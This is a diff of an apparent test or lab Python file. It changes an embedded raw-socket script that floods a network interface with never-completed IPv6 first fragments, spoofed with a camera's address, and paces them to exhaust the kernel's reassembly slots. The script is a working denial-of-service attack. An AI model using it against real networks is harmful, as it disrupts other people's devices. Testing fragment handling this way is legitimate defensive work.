@@ -30,17 +30,20 @@ for line in open(sys.argv[1]):
     time.sleep(0.004)
 """
 
-# First fragments of datagrams that never end, with the camera's address.
+# First fragments of datagrams that never end, with the camera's address. So many a millisecond that
+# no more begin than there are places for while the kernel lets the camera wait between two pieces.
 FLOOD = """
-import socket, struct, sys
+import socket, struct, sys, time
 raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
 raw.bind((sys.argv[1], 0))
 addresses = socket.inet_pton(socket.AF_INET6, sys.argv[2])
 addresses += socket.inet_pton(socket.AF_INET6, sys.argv[3])
-for number in range(50000):
+for number in range(20000):
     piece = struct.pack(">BBHI", 17, 0, 1, number) + bytes(1000)
     ip = struct.pack(">IHBB", 6 << 28, len(piece), 44, 64) + addresses
     raw.send(bytes(12) + b"\\x86\\xdd" + ip + piece)
+    if number % 5 == 0:
+        time.sleep(0.001)
 """
 
 
